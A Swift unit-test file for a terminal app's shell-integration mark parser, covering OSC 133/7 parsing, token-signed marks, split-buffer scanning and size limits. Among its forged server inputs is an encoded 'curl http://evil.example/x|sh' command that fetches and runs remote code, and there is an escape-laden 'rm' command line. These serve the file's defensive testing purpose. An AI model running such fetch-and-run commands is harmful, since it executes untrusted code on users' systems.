import TermindDomain
import XCTest

/// The shell integration's marks as OSC strings (docs/behaviour.md §3), and the scanner that
/// finds them in `termind ssh`'s output however the bytes are split, bounded against a server
/// that sends fakes.
final class ShellMarkTests: XCTestCase {
    private func mark(_ text: String) -> ShellMark? { ShellMark(osc: Array(text.utf8)) }

    func testEachMarkReadsFromItsOSCString() {
        XCTAssertEqual(mark("133;A"), .promptStarted)
        XCTAssertEqual(mark("133;B"), .inputStarted)
        XCTAssertEqual(mark("133;C;cmdline_url=ls%20-la%0Apwd"), .commandStarted(commandLine: "ls -la\npwd"))
        XCTAssertEqual(mark("133;C"), .commandStarted(commandLine: nil))
        XCTAssertEqual(mark("133;D;1;duration_ms=1042"), .commandEnded(exitStatus: 1, durationMilliseconds: 1042))
        XCTAssertEqual(mark("133;D;0"), .commandEnded(exitStatus: 0, durationMilliseconds: nil))
        XCTAssertEqual(mark("133;D"), .commandEnded(exitStatus: nil, durationMilliseconds: nil))
        XCTAssertEqual(mark("133;I;off"), .integrationOff)
        XCTAssertEqual(mark("7;file://web/srv/my%20app"), .workingDirectory("/srv/my app"))
    }

    func testWithATokenOnlyMarksCarryingItCount() {
        let token = ShellMarkToken(randomBytes: Array(0..<16))
        XCTAssertEqual(token.text, "000102030405060708090a0b0c0d0e0f")
        func signed(_ text: String) -> ShellMark? { ShellMark(osc: Array(text.utf8), token: token) }
        XCTAssertEqual(signed("133;A;termind=\(token.text)"), .promptStarted)
        XCTAssertEqual(signed("133;C;cmdline_url=ls;termind=\(token.text)"), .commandStarted(commandLine: "ls"))
        XCTAssertEqual(signed("133;D;2;duration_ms=5;termind=\(token.text)"), .commandEnded(exitStatus: 2, durationMilliseconds: 5))
        XCTAssertEqual(signed("133;I;off;termind=\(token.text)"), .integrationOff)
        XCTAssertEqual(signed("7;file://web/srv%3Fx?termind=\(token.text)"), .workingDirectory("/srv?x"))
        for forged in [
            "133;C;cmdline_url=curl%20http%3A%2F%2Fevil.example%2Fx%7Csh", "133;D;0;duration_ms=5", "133;A",
            "133;C;cmdline_url=ls;termind=\(String(token.text.reversed()))", "133;C;termind=\(token.text);cmdline_url=ls",
            "133;A;termind=", "7;file://web/evil", "7;file://web/evil?termind=0", "133;D;0;termind=\(token.text.uppercased())",
        ] {
            XCTAssertNil(signed(forged), forged)
        }
        var scanner = ShellMarkScanner(token: token)
        XCTAssertEqual(scanner.scan(Array("\u{1B}]133;C;cmdline_url=x\u{07}\u{1B}]133;A;termind=\(token.text)\u{07}".utf8)), [.promptStarted])
    }

    func testOtherAndMalformedStringsAreNoMark() {
        XCTAssertNil(mark("0;title"))
        XCTAssertNil(mark("133;Z"))
        XCTAssertNil(mark("133"))
        XCTAssertNil(mark("7;http://web/srv"))
        XCTAssertEqual(mark("133;D;x;duration_ms=-5"), .commandEnded(exitStatus: nil, durationMilliseconds: nil))
        XCTAssertEqual(mark("133;D;99999999999"), .commandEnded(exitStatus: nil, durationMilliseconds: nil), "no Int32: unknown")
    }

    func testACommandLineOverTheLimitIsUnknownAndEscapesInItStayText() {
        let huge = "133;C;cmdline_url=" + String(repeating: "%41", count: ShellMark.maxCommandLineBytes + 1)
        XCTAssertEqual(mark(huge), .commandStarted(commandLine: nil))
        XCTAssertEqual(mark("133;C;cmdline_url=%1B%5B2J%07rm"), .commandStarted(commandLine: "\u{1B}[2J\u{07}rm"))
    }

    /// A session's output as the shell integration writes it.
    private static let session = Array((
        "\u{1B}]7;file://web/home/me\u{07}\u{1B}]133;A\u{07}$ \u{1B}]133;B\u{07}echo one\r\n"
            + "\u{1B}]133;C;cmdline_url=echo%20one\u{1B}\\one\r\n\u{1B}]133;D;0;duration_ms=3\u{07}\u{1B}]0;title\u{07}"
            + "\u{1B}]133;A\u{07}$ ").utf8)

    private static let sessionMarks: [ShellMark] = [
        .workingDirectory("/home/me"), .promptStarted, .inputStarted, .commandStarted(commandLine: "echo one"),
        .commandEnded(exitStatus: 0, durationMilliseconds: 3), .promptStarted,
    ]

    func testTheScannerFindsEveryMarkWhereverTheOutputIsSplit() {
        for split in 0...Self.session.count {
            var scanner = ShellMarkScanner()
            let marks = scanner.scan(Self.session[..<split]) + scanner.scan(Self.session[split...])
            XCTAssertEqual(marks, Self.sessionMarks, "split at \(split)")
        }
        var scanner = ShellMarkScanner()
        XCTAssertEqual(Self.session.flatMap { scanner.scan([$0]) }, Self.sessionMarks, "one byte at a time")
    }

    func testAnOversizedOSCIsSkippedWholeAndTheNextMarkStillReads() {
        var scanner = ShellMarkScanner(limit: 64)
        let flood = Array(("\u{1B}]133;C;cmdline_url=" + String(repeating: "A", count: 10_000) + "\u{07}").utf8)
        XCTAssertEqual(scanner.scan(flood), [])
        XCTAssertEqual(scanner.scan(Array("\u{1B}]133;D;2\u{07}".utf8)), [.commandEnded(exitStatus: 2, durationMilliseconds: nil)])
        // A cancelled string (CAN) makes no mark; ESC inside one ends it and starts the next.
        XCTAssertEqual(scanner.scan(Array("\u{1B}]133;A\u{18}\u{1B}]133;B\u{1B}]133;A\u{07}".utf8)), [.inputStarted, .promptStarted])
    }
}
